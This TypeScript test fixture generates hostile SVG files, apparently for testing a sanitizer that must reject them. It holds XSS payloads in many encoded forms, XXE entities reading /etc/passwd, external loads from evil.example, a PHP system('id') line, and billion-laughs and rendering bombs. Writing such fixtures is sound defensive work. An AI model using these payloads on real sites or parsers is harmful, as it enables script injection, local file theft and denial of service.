/** Drawings that act, reach out or unfold without end. */
import { bitPng, svg, type Hostile } from './hostile-pictures.js';

const base64 = (text: string | Buffer) => Buffer.from(text).toString('base64');
const acting = svg('<script>alert(1)</script>');

/** Well-known forms, most of them from the OWASP and PortSwigger cheat sheets. */
const acts: readonly (readonly [what: string, drawing: string])[] = [
  ['a script', acting],
  ['a script in CDATA', svg('<script><![CDATA[alert(1)]]></script>')],
  ['a script from elsewhere', svg('<script xlink:href="https://evil.example/x.js"/>')],
  ['a script with a prefix', '<s:svg xmlns:s="http://www.w3.org/2000/svg" width="9" height="9"><s:script>x</s:script></s:svg>'],
  ['a script with a prefix of no language', svg('<x:script>alert(1)</x:script>')],
  ['a script of XHTML', svg('<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>')],
  ['a script of XHTML without a prefix', svg('<g xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></g>')],
  ['a script in capitals', svg('<SCRIPT>alert(1)</SCRIPT>')],
  ['a script among notes', svg('<metadata><x:Script xmlns:x="urn:x">alert(1)</x:Script></metadata>')],
  ['an event at the top', svg('', ' onload="alert(1)"')],
  ['an event at the top, after a line', '<svg\n\tonload\n=\n"alert(1)" xmlns="http://www.w3.org/2000/svg" width="9" height="9"/>'],
  ['an event in capitals', svg('<rect ONCLICK="alert(1)" width="9" height="9"/>')],
  ['an event of focus', svg('<a autofocus="" onfocusin="alert(1)"/>')],
  ['an event of an animation', svg('<animate onbegin="alert(1)" attributeName="x" dur="1s"/>')],
  ['an event with a prefix', svg('<g x:onload="alert(1)"/>')],
  ['an event set later', svg('<set attributeName="onmouseover" to="alert(1)"/>')],
  ['an address set later', svg('<a><animate attributeName="href" values="javascript:alert(1)"/><text y="9">x</text></a>')],
  ['an address set later, in references', svg('<a><set attributeName="xlink:&#104;ref" to="#x"/></a>')],
  ['JavaScript in an animation', svg('<animate attributeName="x" values="javascript:alert(1)"/>')],
  ['a page inside', svg('<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><p>x</p></body></foreignObject>')],
  ['a frame', svg('<iframe src="https://evil.example"/>')],
  ['a handler', svg('<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler>')],
  ['a listener', svg('<ev:listener xmlns:ev="http://www.w3.org/2001/xml-events" event="load" handler="#x"/>')],
  ['a video', svg('<video/>')],
  ['a style sheet from elsewhere', svg('<style>@import "https://evil.example/x.css";</style>')],
  ['a style sheet from elsewhere, hidden', svg('<style>@\\69mport "https://evil.example/x.css";</style>')],
  ['an expression', svg('<rect style="width: expression(alert(1))" height="9"/>')],
  ['a binding', svg('<g style="-moz-binding: none"/>')],
  ['a set of pictures', svg('<style>g{mask:image-set("x.png" 1x)}</style>')],
]; // prettier-ignore

const reaches: readonly (readonly [what: string, drawing: string])[] = [
  ['JavaScript in a link', svg('<a xlink:href="javascript:alert(1)"><text y="9">x</text></a>')],
  ['JavaScript in a link, in references', svg('<a href="java&#115;cript&#x3a;alert(1)"/>')],
  ['JavaScript in a link, with a line in it', svg('<a href=" java\nscript:alert(1)"/>')],
  ['a page in a link', svg(`<a href="data:text/html;base64,${base64('<script>alert(1)</script>')}"/>`)],
  ['an acting drawing in a link', svg(`<use href="data:image/svg+xml;base64,${base64(acting)}#x"/>`)],
  ['a drawing in a drawing', svg(`<image href="data:image/svg+xml;base64,${base64(acting)}"/>`)],
  ['a file of the machine', svg('<image xlink:href="/etc/passwd" width="9" height="9"/>')],
  ['a file of the machine by address', svg('<image href="file:///etc/passwd"/>')],
  ['a file of the machine in a text', svg('<tref xlink:href="/etc/passwd"/>')],
  ['its neighbour', svg('<image href="secret.png" width="9" height="9"/>')],
  ['its neighbour with another prefix', svg('<image x:href="secret.png" xmlns:x="http://www.w3.org/1999/xlink"/>')],
  ['its neighbour in a filter', svg('<filter id="f"><feImage href="secret.png"/></filter>')],
  ['a part of its neighbour', svg('<use href="other.svg#a"/>')],
  ['the web', svg('<image href="https://evil.example/x.png"/>')],
  ['the web without a scheme', svg('<image href="//evil.example/x.png"/>')],
  ['the network of Windows', svg('<image href="\\\\evil\\share\\x.png"/>')],
  ['a file in a fill', svg('<rect fill="url(file:///etc/passwd#a)" width="9" height="9"/>')],
  ['the web in a style', svg('<rect style="fill:url(https://evil.example/#x)"/>')],
  ['the web in a style, hidden', svg('<rect style="fill:\\75 rl(https://evil.example/#x)"/>')],
  ['the web in a style, in references', svg('<rect style="fill:&#117;rl(https://evil.example/#x)"/>')],
  ['the web in a style sheet', svg('<style>rect{fill:url("https://evil.example/#x")}</style>')],
  ['the web in a style sheet in CDATA', svg('<style><![CDATA[rect{fill:URL( "https://evil.example/#x")}]]></style>')],
  ['the web between strings that look like comments', svg(`<style>g{a:"/*";fill:url(//evil.example/#x);b:"*/"}</style>`)],
  ['the web in a font', svg('<style>@font-face{font-family:x;src:url(https://evil.example/x.woff)}</style>')],
  ['another base', svg('<g xml:base="file:///etc/"><use href="#a"/></g>')],
]; // prettier-ignore

const declares: readonly (readonly [what: string, drawing: string | Buffer, says: string])[] = [
  ['an entity of a file', `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${svg('<text>&x;</text>')}`, 'document type'],
  ['a parameter entity', `<!DOCTYPE svg [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]>${svg('')}`, 'document type'],
  ['a document type elsewhere', `<!DOCTYPE svg SYSTEM "http://evil.example/x.dtd">${svg('')}`, 'document type'],
  ['billion laughs', laughs(), 'document type'],
  ['an entity that nobody declared', svg('<text>&x;</text>'), 'not well formed'],
  ['a control character in references', svg('<text>&#27;[31m</text>'), 'not well formed'],
  ['XInclude', svg('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="/etc/passwd" parse="text"/>'), 'can act'],
  ['XInclude by another prefix', svg('<g xmlns="http://www.w3.org/2003/XInclude"><fallback/></g>'), 'can act'],
  ['XSLT', svg('<x:stylesheet xmlns:x="http://www.w3.org/1999/XSL/Transform" version="1.0"/>'), 'can act'],
  ['a style sheet before it', `<?xml version="1.0"?><?xml-stylesheet href="https://evil.example/x.css"?>${svg('')}`, 'instruction'],
  ['PHP', `<?xml version="1.0"?>${svg('<?php system("id"); ?>')}`, 'instruction'],
  ['PHP in a comment', svg('<!-- <?php system("id"); ?> -->'), 'also a web page'],
  ['UTF-16', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(acting, 'utf16le')]), 'UTF-16'],
  ['UTF-16 without a mark', Buffer.from(acting, 'utf16le'), 'UTF-16'],
  ['UTF-7', `<?xml version="1.0" encoding="UTF-7"?>${svg('+ADw-script+AD4-alert(1)+ADw-/script+AD4-')}`, 'UTF-8'],
  ['another encoding', `<?xml version="1.0" encoding="IBM037"?>${svg('')}`, 'UTF-8'],
  ['bytes that are no UTF-8', Buffer.concat([Buffer.from(svg('')), Buffer.from([0xff])]), 'UTF-8'],
  ['no end', svg('<g>').replace(/<\/svg>/, ''), 'not well formed'],
  ['half a tag', svg('<rect width="9" hei').replace(/<\/svg>/, ''), 'not well formed'],
  ['tags that cross', svg('<g><text></g></text>'), 'not well formed'],
  ['two roots', `${svg('')}${acting}`, 'not well formed'],
  ['two attributes of one name', svg('<a href="#a" href="javascript:alert(1)"/>'), 'not well formed'],
  ['attributes without quotes', '<svg xmlns="http://www.w3.org/2000/svg" width=9 height=9></svg>', 'not well formed'],
  ['another root', '<svg xmlns="http://www.w3.org/1999/xhtml" width="9" height="9"><script>alert(1)</script></svg>', 'can act'],
  ['no size', '<svg xmlns="http://www.w3.org/2000/svg"><rect width="9" height="9"/></svg>', 'how large'],
  ['a size without sense', svg('').replace('"90"', '"9e9"'), '50 million'],
  ['a picture inside that is cut off', svg(`<image href="data:image/png;base64,${base64(bitPng(9, 9).subarray(0, 40))}"/>`), 'lies in the drawing'],
  ['a picture inside that is a bomb', svg(`<image href="data:image/png;base64,${base64(bitPng(16_000, 16_000))}"/>`), 'lies in the drawing'],
  ['a picture inside that is none', svg(`<image href="data:image/png;base64,${base64('<script>')}"/>`), 'lies in the drawing'],
]; // prettier-ignore

/** Each of the ten entities is ten times the one before. */
function laughs(): string {
  const entities = Array.from({ length: 9 }, (_, n) => `<!ENTITY l${n + 1} "${`&l${n};`.repeat(10)}">`);
  return `<!DOCTYPE svg [<!ENTITY l0 "ha">${entities.join('')}]>${svg('<text>&l9;</text>')}`;
}

/** Ten of ten of ten …: each level draws the one before ten times. */
function tower(level: (n: number) => string, levels = 7): string {
  return svg(Array.from({ length: levels }, (_, n) => level(n)).join(''));
}

const unfolds: readonly (readonly [what: string, drawing: string])[] = [
  ['ten million copies', tower((n) => `<g id="a${n}">${n === 0 ? '<path/>' : `<use href="#a${n - 1}"/>`.repeat(10)}</g>`)],
  ['patterns of patterns', tower((n) => `<pattern id="a${n}">${`<path fill="url(#a${n - 1})"/>`.repeat(10)}</pattern>`)],
  ['masks of masks', tower((n) => `<mask id="a${n}">${`<path style="mask:url(#a${n - 1})"/>`.repeat(10)}</mask>`)],
  ['markers on many corners', svg(`<marker id="m">${'<path/>'.repeat(100)}</marker><g marker-mid="url(#m)"><path d="M0 0${' 1 1'.repeat(5_000)}"/></g>`)],
  ['a pattern for everything in a style sheet', svg(`<style>path{fill:url(#p)}</style><pattern id="p">${'<rect/>'.repeat(500)}</pattern>${'<path/>'.repeat(500)}`)],
  ['a thousand filters', svg(`<filter id="f"><feGaussianBlur stdDeviation="5"/></filter>${'<path filter="url(#f)"/>'.repeat(1_000)}`)],
  ['ten brushes', svg(`<filter id="f"><feMorphology radius="99"/></filter>${'<path filter="url(#f)"/>'.repeat(15)}`)],
  ['noise without end', svg('<filter id="f"><feTurbulence numOctaves="100000"/></filter>')],
  ['a brush without end', svg('<filter id="f"><feMorphology radius="5000"/></filter>')],
  ['a thousand levels', svg('<g>'.repeat(1_000) + '</g>'.repeat(1_000))],
  ['a hundred thousand elements', svg('<g/>'.repeat(100_000))],
]; // prettier-ignore

const circles: readonly (readonly [what: string, drawing: string])[] = [
  ['a copy of itself', svg('<g id="a"><use href="#a"/></g>')],
  ['copies of each other', svg('<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>')],
  ['a mask of itself', svg('<mask id="a"><rect mask="url(#a)"/></mask>')],
]; // prettier-ignore

export function hostileDrawings(): Hostile[] {
  const table = [
    ...acts.map(([what, drawing]) => [what, drawing, 'can act'] as const),
    ...reaches.map(([what, drawing]) => [what, drawing, 'outside itself'] as const),
    ...declares,
    ...unfolds.map(([what, drawing]) => [what, drawing, 'unfolds'] as const),
    ...circles.map(([what, drawing]) => [what, drawing, 'contains itself'] as const),
    ['three megabytes', svg(`<!--${' '.repeat(3 * 1024 * 1024)}-->`), 'more than 2 MB'] as const,
  ];
  return table.map(([what, drawing, says]) => ({
    what: `a drawing with ${what}`,
    file: 'a.svg',
    make: Buffer.from(drawing),
    says,
  }));
}
